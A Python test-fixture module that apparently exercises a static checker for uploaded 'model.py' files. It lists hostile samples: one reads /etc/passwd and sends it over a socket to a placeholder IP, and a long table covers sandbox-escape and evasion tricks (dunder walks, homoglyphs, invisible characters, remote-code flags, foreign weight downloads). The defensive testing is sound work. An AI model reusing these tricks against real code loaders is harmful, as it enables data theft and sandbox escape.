"""Files called ``model.py`` that try to reach files, processes, the network, or code from text.

Each is a whole file; none may ever be imported.
"""

from __future__ import annotations

import textwrap

from good_packages import GOOD_CODE, refused

CANARY = "canary-of-the-hostile-package"
"""A file that hostile code would make, were it ever to run."""


def _with(lines: str) -> str:
    return GOOD_CODE + "\n\n" + textwrap.dedent(lines).lstrip("\n")


def _attack(name: str, code: str, lines: str) -> None:
    """Define one more hostile file."""

    def build() -> str:
        return _with(lines)

    build.__name__ = name
    globals()[name] = refused(code)(build)


@refused("import_not_allowed")
def reads_passwd_and_opens_a_socket() -> str:
    return f'''\
import os
import socket

from safetensors.torch import load_file

open("{CANARY}", "w").write("it ran")
secrets = open("/etc/passwd").read()
s = socket.socket()
s.connect(("203.0.113.1", 80))
s.send(secrets.encode())
os.system("id")


def load_model(weights_path, num_classes=2, **model_params):
    return load_file(weights_path)
'''


@refused("load_model_missing")
def no_load_model() -> str:
    return "import torch\n"


@refused("load_model_signature")
def load_model_without_classes() -> str:
    return "def load_model(weights_path):\n    return None\n"


@refused("syntax_error")
def broken_python() -> str:
    return "def load_model(:\n"


@refused("syntax_error")
def null_byte() -> str:
    return GOOD_CODE + "\0"


@refused("syntax_error")
def nested_too_deeply() -> str:
    return "x = " + "-" * 100_000 + "1\n"


@refused("code_too_large")
def braces_in_an_fstring() -> str:
    return 'x = f"' + "{a}" * 30_000 + '"\n'


@refused("code_too_large")
def too_large() -> str:
    return GOOD_CODE + "# " + "x" * 300_000


@refused("encoding")
def code_in_another_encoding() -> bytes:
    return b"# coding: utf-7\n" + GOOD_CODE.encode() + b"+AG8AcABlAG4-('/etc/passwd')\n"


@refused("invisible_character")
def text_that_reads_backwards() -> str:
    return GOOD_CODE + '# "\u202e nothing to see \u202c"\n'


_ATTACKS: dict[str, tuple[str, str]] = {
    "import_under_another_name": ("import_not_allowed", "import os as torch_utils"),
    "import_in_a_function": ("import_not_allowed", "def f():\n    import subprocess"),
    "import_in_a_class_body": ("import_not_allowed", "class A:\n    import ctypes"),
    "import_after_failure": ("import_not_allowed", "try:\n    import torch\nexcept ImportError:\n    import os"),
    "from_import_of_a_function": ("import_not_allowed", "from os import system"),
    "from_import_of_hub": ("import_not_allowed", "from torch import hub"),
    "from_import_of_load": ("import_not_allowed", "from torch import load"),
    "from_import_of_a_handed_on_module": ("import_not_allowed", "from functools import sys"),
    "import_of_loaders": ("import_not_allowed", "import torch.utils.data"),
    "import_of_cpp_extension": ("import_not_allowed", "import torch.utils.cpp_extension"),
    "import_of_huggingface_hub": ("import_not_allowed", "import huggingface_hub"),
    "import_of_real_paths": ("import_not_allowed", "from pathlib import Path"),
    "import_of_ctypeslib": ("import_not_allowed", "import numpy.ctypeslib"),
    "import_of_private_module": ("import_not_allowed", "import torch._C"),
    "relative_import": ("import_not_allowed", "from . import helper"),
    "star_import": ("star_import", "from torch import *"),
    "torch_load": ("name_not_allowed", 'x = torch.load("model.bin")'),
    "torch_load_under_another_name": ("name_not_allowed", 'import torch as t\nx = t.load("model.bin")'),
    "torch_hub": ("name_not_allowed", 'x = torch.hub.load("a/b", "c")'),
    "torch_jit": ("name_not_allowed", 'x = torch.jit.load("a.pt")'),
    "torch_package": ("name_not_allowed", 'x = torch.package.PackageImporter("a")'),
    "torch_load_library": ("name_not_allowed", 'torch.ops.load_library("a.so")'),
    "torch_classes": ("name_not_allowed", 'torch.classes.load_library("a.so")'),
    "torch_hands_on_os": ("name_not_allowed", 'torch.os.system("id")'),
    "functional_hands_on_importlib": ("name_not_allowed", 'F.importlib.import_module("os")'),
    "nn_hands_on_torch": ("name_not_allowed", "nn.modules.module.torch.hub"),
    "numpy_load": ("name_not_allowed", 'import numpy as np\nnp.load("a.npy", allow_pickle=True)'),
    "numpy_fromfile": ("name_not_allowed", 'import numpy as np\nnp.fromfile("/etc/passwd")'),
    "numpy_memmap": ("name_not_allowed", 'import numpy as np\nnp.memmap("/etc/passwd")'),
    "numpy_strides": ("name_not_allowed", "import numpy as np\nnp.lib.stride_tricks.as_strided"),
    "array_to_file": ("attribute_refused", 'import numpy as np\nnp.zeros(3).tofile("x")'),
    "array_to_pointer": ("attribute_refused", "import numpy as np\nnp.zeros(3).ctypes"),
    "image_open": ("name_not_allowed", 'from PIL import Image\nImage.open("/etc/x.png")'),
    "cv2_imread": ("name_not_allowed", 'import cv2\ncv2.imread("/etc/x.png")'),
    "dataclasses_hand_on_builtins": ("name_not_allowed", "import dataclasses\ndataclasses.builtins"),
    "annotations_that_are_evaluated": ("import_not_allowed", "from typing import get_type_hints"),
    "singledispatch": ("name_not_allowed", "import functools\nfunctools.singledispatch"),
    "wraps_copies_attributes": ("name_refused", "import functools\nfunctools.wraps(F.relu, assigned=('x',))"),
    "module_in_a_variable": ("module_as_value", 't = torch\nt.hub.load("x")'),
    "module_in_a_list": ("module_as_value", "x = [torch]"),
    "module_as_an_argument": ("module_as_value", "f = lambda m: m.hub\nf(torch)"),
    "submodule_in_a_variable": ("module_as_value", "m = torch.nn"),
    "getattr_with_a_literal": ("name_not_allowed", 'getattr(torch, "hub")'),
    "getattr_chain": ("name_not_allowed", 'getattr(getattr(torch, "nn"), "modules")'),
    "getattr_with_a_sum": ("name_refused", 'getattr(torch, "h" + "ub")'),
    "getattr_with_an_fstring": ("name_refused", 'x = "hub"\ngetattr(torch, f"{x}")'),
    "getattr_in_a_variable": ("name_refused", 'g = getattr\ng(torch, "hub")'),
    "getattr_through_map": ("name_refused", 'list(map(getattr, [1], ["x"]))'),
    "getattr_with_star": ("name_refused", 'getattr(*[torch, "hub"])'),
    "getattr_of_a_dunder": ("dunder", 'getattr(F.relu, "__globals__")'),
    "setattr_on_a_library": ("monkeypatch", 'setattr(nn.Module, "forward", None)'),
    "assignment_to_a_library": ("monkeypatch", "nn.Module.__call__ = None"),
    "deletion_from_a_library": ("monkeypatch", "del torch.Tensor"),
    "eval_call": ("name_refused", 'eval("1")'),
    "exec_call": ("name_refused", 'exec("import os")'),
    "compile_call": ("name_refused", 'compile("1", "x", "eval")'),
    "open_call": ("name_refused", 'open("/etc/passwd")'),
    "input_call": ("name_refused", "input()"),
    "breakpoint_call": ("name_refused", "breakpoint()"),
    "globals_call": ("name_refused", 'globals()["x"]'),
    "vars_call": ("name_refused", "vars(torch)"),
    "locals_call": ("name_refused", "locals()"),
    "dunder_import": ("dunder", '__import__("os")'),
    "builtins_table": ("dunder", '__builtins__["eval"]'),
    "loader_of_the_module": ("dunder", "__loader__"),
    "eval_in_wide_letters": ("name_refused", '\uff45\uff56\uff41\uff4c("1")'),
    "eval_in_a_variable": ("name_refused", "e = eval"),
    "eval_hidden_by_a_local_name": ("name_refused", 'def f():\n    open = 1\n\n\nopen("/etc/passwd")'),
    "open_past_a_parameter": ("name_refused", "def f(open):\n    class A:\n        x = open\n        open = 1"),
    "open_in_the_default_of_a_parameter": ("name_refused", 'def f(open=open("/etc/passwd")): ...'),
    "open_declared_global": (
        "name_refused",
        "def f(open):\n    def g():\n        global open\n        open(1)",
    ),
    "exec_as_a_decorator": ("name_refused", "@exec\nclass A: ..."),
    "open_in_an_annotation": ("name_refused", 'def f(x: open("/etc/passwd")): ...'),
    "open_in_a_default": ("name_refused", 'def f(x=open("/etc/passwd")): ...'),
    "open_in_a_class_body": ("name_refused", 'class A:\n    x = open("/etc/passwd")'),
    "open_as_a_base_class": ("name_refused", "class A(open): ..."),
    "open_as_a_metaclass": ("name_refused", "class A(metaclass=open): ..."),
    "eval_in_an_fstring": ("name_refused", "f\"{eval('1')}\""),
    "open_in_a_lambda": ("name_refused", 'f = lambda: open("/etc/passwd")'),
    "open_in_a_comprehension": ("name_refused", 'x = [open(p) for p in ["/etc/passwd"]]'),
    "subclasses_of_object": ("dunder", "().__class__.__base__.__subclasses__()"),
    "globals_of_a_function": ("dunder", "F.relu.__globals__"),
    "frame_of_a_generator": ("attribute_refused", "(x for x in ()).gi_frame.f_back.f_builtins"),
    "frame_of_an_exception": ("attribute_refused", "try:\n    1 / 0\nexcept Exception as e:\n    e.x.tb_frame"),
    "dunder_in_a_pattern": ("dunder", "match F.relu:\n    case object(__globals__=g):\n        g"),
    "match_args": ("dunder", 'class A:\n    __match_args__ = ("__globals__",)'),
    "dunder_as_text": ("dunder", 'x = "__globals__"'),
    "attributes_by_format": ("dunder", 'x = "{0.__class__}".format(1)'),
    "attributes_by_stored_format": ("name_refused", 'x = "{0.a}"\ny = x.format(1)'),
    "attributes_by_format_map": ("attribute_refused", 'x = "{a}".format_map({})'),
    "class_by_type": ("name_refused", 'X = type("X", (), {})'),
    "hook_of_subclasses": ("dunder", "class A:\n    def __init_subclass__(cls): ..."),
    "reduce_of_pickle": ("dunder", 'class A:\n    def __reduce__(self): return (print, ("x",))'),
    "undefined_name": ("name_refused", "x = get_ipython()"),
    "weights_from_elsewhere": ("foreign_weights", 'x = load_file("/etc/other.safetensors")'),
    "weights_path_rebound": (
        "foreign_weights",
        'def load_model(weights_path, num_classes=2):\n    weights_path = "/etc/x"\n    load_file(weights_path)',
    ),
    "weights_path_in_a_default": (
        "foreign_weights",
        'weights_path = "/x"\n\n\ndef load_model(weights_path, num_classes=2, x=load_file(weights_path)): ...',
    ),
    "weights_path_through_a_false_wrapper": (
        "foreign_weights",
        'def str(x): return "/etc/x"\n\n\n'
        "def load_model(weights_path, num_classes=2):\n    load_file(str(weights_path))",
    ),
    "weights_path_called_with_another": ("foreign_weights", 'load_model("/etc/x")'),
    "loader_in_a_variable": ("name_refused", 'f = load_file\nf("/etc/x")'),
    "pretrained_from_elsewhere": (
        "foreign_weights",
        'from transformers import AutoModel\nAutoModel.from_pretrained("evil/repo")',
    ),
    "pretrained_above_the_folder": (
        "foreign_weights",
        "from pathlib import PurePath\nfrom transformers import AutoModel\n\n\n"
        "def load_model(weights_path, num_classes=2):\n"
        "    AutoModel.from_pretrained(PurePath(weights_path).parent.parent)",
    ),
    "pretrained_in_a_variable": (
        "name_refused",
        "from transformers import AutoModel\nf = AutoModel.from_pretrained",
    ),
    "trusts_remote_code": (
        "remote_code",
        "from transformers import AutoModel\nAutoModel.from_config(trust_remote_code=1)",
    ),
    "trusts_remote_code_in_a_table": ("remote_code", 'x = {"trust_remote_code": True}'),
    "checkpoint_of_timm": ("remote_code", 'import timm\ntimm.create_model("x", checkpoint_path="/x.pt")'),
    "download_by_timm": ("downloads_weights", 'import timm\ntimm.create_model("x", pretrained=True)'),
    "hub_of_timm": ("downloads_weights", 'import timm\ntimm.create_model("hf-hub:a/b")'),
    "pipeline_of_transformers": ("import_not_allowed", "from transformers import pipeline"),
    "yolo_unpickles": ("foreign_weights", 'from ultralytics import YOLO\nYOLO("evil.pt")'),
    "weights_of_torchvision": (
        "downloads_weights",
        'import torchvision.models as m\nm.resnet18(weights="DEFAULT")',
    ),
    "weights_of_torchvision_by_their_class": (
        "downloads_weights",
        "import torchvision.models as m\nm.resnet18(weights=m.ResNet18_Weights.DEFAULT)",
    ),
    "auto_map_in_a_call": (
        "remote_code",
        'from transformers import BertConfig\nBertConfig(auto_map={"AutoModel": "a--b"})',
    ),
    "open_module_hands_on_functools": ("name_not_allowed", "from PIL import ImageOps\nImageOps.functools"),
    "open_module_hands_on_struct": ("name_not_allowed", "from PIL import ImageDraw\nImageDraw.struct"),
    "font_from_a_file": ("name_not_allowed", 'from PIL import ImageDraw\nImageDraw.ImageFont.truetype("/etc/x")'),
    "backend_that_loads_anything": ("import_not_allowed", "from ultralytics.nn.autobackend import AutoBackend"),
    "weights_of_flash_attention": ("import_not_allowed", "from flash_attn.utils import pretrained"),
    "load_state_dict_from_url": ("import_not_allowed", "from torchvision.models.utils import load_state_dict_from_url"),
}

_EVASIONS: dict[str, tuple[str, str]] = {
    "class_by_a_stored_type": ("name_refused", 't = type\nt("X", (object,), {"a": 1})'),
    "class_by_type_through_map": ("name_refused", 'list(map(type, ["X"], [()], [{}]))'),
    "class_by_type_through_partial": ("name_refused", 'from functools import partial\nX = partial(type, "X", ())({})'),
    "class_by_type_with_star": ("name_refused", 'type(*["X", (), {}])'),
    "class_of_classes": ("name_refused", "class M(type): ...\nclass A(metaclass=M): ..."),
    "getattr_through_partial": ("module_as_value", "from functools import partial\np = partial(getattr, torch)"),
    "getattr_through_reduce": ("module_as_value", 'from functools import reduce\nreduce(getattr, ["hub"], torch)'),
    "getattr_with_a_joined_list": ("module_as_value", 'getattr(torch, "".join(["h","ub"]))'),
    "getattr_with_wide_letters": ("dunder", 'getattr(F.relu, "\uff3f_globals__")'),
    "getattr_with_an_escape": ("dunder", 'getattr(F.relu, "\\x5f_globals__")'),
    "getattr_with_joined_literals": ("dunder", 'getattr(F.relu, "__glo" "bals__")'),
    "attribute_in_wide_letters": ("lookalike_name", "torch.\uff48ub"),
    "dunder_in_wide_letters": ("lookalike_name", "F.relu.__\uff47lobals__"),
    "import_in_wide_letters": ("lookalike_name", "import \uff4fs"),
    "import_in_cyrillic_letters": ("lookalike_name", "import t\u043erch"),
    "letters_drawn_as_nothing": ("lookalike_name", "x\u3164 = 1"),
    "letters_of_a_private_alphabet": ("invisible_character", 'x = "\ue000"'),
    "tags_in_text": ("invisible_character", 'x = "\U000e0041"'),
    "line_end_that_python_ignores": ("invisible_character", "x = 1 # \x85import os"),
    "bom_in_the_middle": ("invisible_character", "x = 1\n\ufeffimport os"),
    "super_past_the_short_list": ("dunder", 'class A:\n    def f(self):\n        return super().__getattribute__("x")'),
    "class_cell_walk": ("dunder", "class A:\n    def f(self):\n        return __class__.__mro__"),
    "walk_through_a_classes_name": ("dunder", "x = (1).__class__.__name__.__class__.__base__"),
    "code_of_a_lambda": ("dunder", "(lambda: 0).__code__"),
    "closure_of_a_lambda": ("dunder", "(lambda: 0).__closure__"),
    "module_of_a_builtin": ("dunder", "print.__self__"),
    "table_of_a_module": ("name_not_allowed", 'torch.__dict__["hub"]'),
    "subclasses_of_type": ("dunder", "object.__subclasses__()"),
    "module_in_a_walrus": ("module_as_value", "(t := torch)\nt.hub"),
    "module_in_a_loop": ("module_as_value", "for t in [torch]: t.hub"),
    "module_in_a_default": ("module_as_value", "def f(t=torch): return t.hub"),
    "module_in_a_condition": ("module_as_value", "(torch if 1 else nn).hub"),
    "module_in_a_table": ("module_as_value", '{"a": torch}["a"].hub'),
    "module_by_a_pattern": ("name_not_allowed", "match 1:\n    case torch.hub: pass"),
    "decorator_from_a_module": ("name_not_allowed", "@torch.hub.load\ndef f(): ..."),
    "decorator_that_gives_open": ("name_refused", "@(lambda f: open)\ndef f(): ..."),
    "alias_of_a_library_class_changed": ("monkeypatch", "L = nn.Linear\nL.forward = 1"),
    "class_of_an_object_changed": ("monkeypatch", "type(nn.Linear(1,1)).forward = 1"),
    "loop_that_changes_a_library": ("monkeypatch", "for nn.Linear.forward in [1]: pass"),
    "with_that_changes_a_library": ("monkeypatch", "with torch.no_grad() as nn.Linear.forward: pass"),
    "weights_by_an_alias": (
        "downloads_weights",
        'from torchvision.models import resnet18\nf = resnet18\nf(weights="DEFAULT")',
    ),
    "weights_by_partial": (
        "downloads_weights",
        "from functools import partial\nfrom torchvision.models import resnet18\n"
        'partial(resnet18, weights="DEFAULT")()',
    ),
    "weights_in_a_starred_table": (
        "downloads_weights",
        'from torchvision.models import resnet18\nresnet18(**{"weights": "DEFAULT"})',
    ),
    "weights_by_place": ("downloads_weights", 'import timm\ntimm.create_model("x", True)'),
    "hub_of_timm_in_pieces": ("downloads_weights", 'import timm\ntimm.create_model("hf" + "-hub:a/b")'),
    "folder_of_timm": ("downloads_weights", 'import timm\ntimm.create_model("local-dir:/etc/x")'),
    "pretrained_by_getattr": (
        "foreign_weights",
        'from transformers import AutoModel\ngetattr(AutoModel, "from_pretrained")("a/b")',
    ),
    "configuration_from_any_file": (
        "attribute_refused",
        'from transformers import BertConfig\nBertConfig.from_json_file("/etc/x")',
    ),
    "tokenizer_from_any_file": (
        "remote_code",
        'from transformers import PreTrainedTokenizerFast\nPreTrainedTokenizerFast(tokenizer_file="/etc/x")',
    ),
    "adapter_from_anywhere": ("attribute_refused", 'from transformers import BertModel\nBertModel.load_adapter("a/b")'),
    "backbone_from_the_network": (
        "downloads_weights",
        'from transformers import DetrConfig\nDetrConfig(use_pretrained_backbone=True, backbone="a/b")',
    ),
    "yolo_under_another_name": ("foreign_weights", 'from ultralytics import YOLO\ny = YOLO\ny("evil.pt")'),
    "yolo_as_a_base_class": ("name_refused", 'from ultralytics import YOLO\nclass Y(YOLO):\n    pass\nY("evil.pt")'),
    "yolo_from_any_path": ("foreign_weights", 'from ultralytics import YOLO\nYOLO("/etc/x.yaml")'),
    "yolo_evaluates_a_table": (
        "import_not_allowed",
        "from ultralytics.nn.tasks import parse_model\nparse_model({}, 3)",
    ),
    "detection_model_from_any_path": (
        "foreign_weights",
        'from ultralytics.nn.tasks import DetectionModel\nDetectionModel("/etc/x.yaml")',
    ),
    "package_handed_on_by_its_module": ("name_not_allowed", "import torchaudio.functional as f\nf.torchaudio"),
    "cascade_from_a_file": ("import_not_allowed", 'from skimage.feature import Cascade\nCascade("x.xml")'),
    "path_module_of_a_path": ("attribute_refused", 'from pathlib import PurePath\nPurePath("/etc")._flavour'),
    "shared_memory_of_a_tensor": ("attribute_refused", "torch.zeros(1).share_memory_()"),
    "load_model_defined_twice": ("load_model_signature", "async def load_model(weights_path, num_classes=2): ..."),
    "load_model_as_a_lambda": ("foreign_weights", 'load_model = lambda p, num_classes=2: load_file("/x")'),
    "weights_path_in_a_nested_function": (
        "foreign_weights",
        "def load_model(weights_path, num_classes=2):\n"
        '    def f(weights_path): return load_file(weights_path)\n    return f("/x")',
    ),
    "weights_path_in_a_comprehension": (
        "foreign_weights",
        'def load_model(weights_path, num_classes=2):\n    return [load_file(weights_path) for weights_path in ["/x"]]',
    ),
    "weights_path_in_a_class_body": (
        "foreign_weights",
        "def load_model(weights_path, num_classes=2):\n"
        '    class A:\n        weights_path = "/x"\n        y = load_file(weights_path)',
    ),
    "weights_path_in_a_walrus": (
        "foreign_weights",
        'def load_model(weights_path, num_classes=2):\n    (weights_path := "/x")\n    return load_file(weights_path)',
    ),
    "format_by_a_type": ("name_refused", 'str.format("{0.__class__}", 1)'),
    "format_of_a_sum": ("dunder", '("{0.__cla" + "ss__}").format(1)'),
    "format_in_the_width": ("dunder", '"{0:{1.__class__}}".format(1, 2)'),
    "format_with_an_escape": ("dunder", '"{0.\\x5f_class__}".format(1)'),
    "open_in_a_type_alias_of_an_fstring": ("name_refused", 'f"{1:{open(chr(120))}}"'),
    "open_under_many_ifs": (
        "name_refused",
        "\n".join("  " * i + "if 1:" for i in range(95)) + "\n" + "  " * 95 + 'open("x")',
    ),
    "attributes_by_the_thousand": ("syntax_error", "x = torch" + ".a" * 3_000),
    "sums_by_the_thousand": ("syntax_error", "x = " + "1+" * 20_000 + "1"),
    "lambdas_by_the_thousand": ("syntax_error", "x = " + "lambda: " * 3_000 + "1"),
    "subscripts_by_the_thousand": ("syntax_error", "x = a" + "[0]" * 10_000),
    "parents_by_the_thousand": (
        "code_too_large",
        "def other(weights_path):\n    return weights_path" + ".parent" * 1_500,
    ),
    "elifs_by_the_thousand": ("code_too_large", "if 1:\n    pass\n" + "elif 1:\n    pass\n" * 2_000),
    "a_number_of_too_many_digits": ("foreign_weights", "from ultralytics import YOLO\nYOLO(0x" + "f" * 5_000 + ")"),
    "a_parameter_that_is_given_another_file_once": (
        "foreign_weights",
        "def read(a, b):\n    return load_file(b)\n\n\n"
        'def load_model(weights_path, num_classes=2):\n    read(1, weights_path)\n    read(b="/x", a=1)',
    ),
    "a_parameter_among_too_many_to_follow": (
        "foreign_weights",
        "def read(" + ", ".join(f"a{i}" for i in range(40)) + "):\n    return load_file(a0)\n\n\n"
        "def load_model(weights_path, num_classes=2):\n    return read(weights_path)",
    ),
    "slots_that_open_the_table": ("dunder", 'class N:\n    __slots__ = ("__dict__",)'),
    "exception_group_that_binds_open": ("name_refused", "try:\n    pass\nexcept* ValueError as open:\n    open"),
}
"""Detours that were tried against the check itself."""
for _name, (_code, _lines) in (_ATTACKS | _EVASIONS).items():
    _attack(_name, _code, _lines)
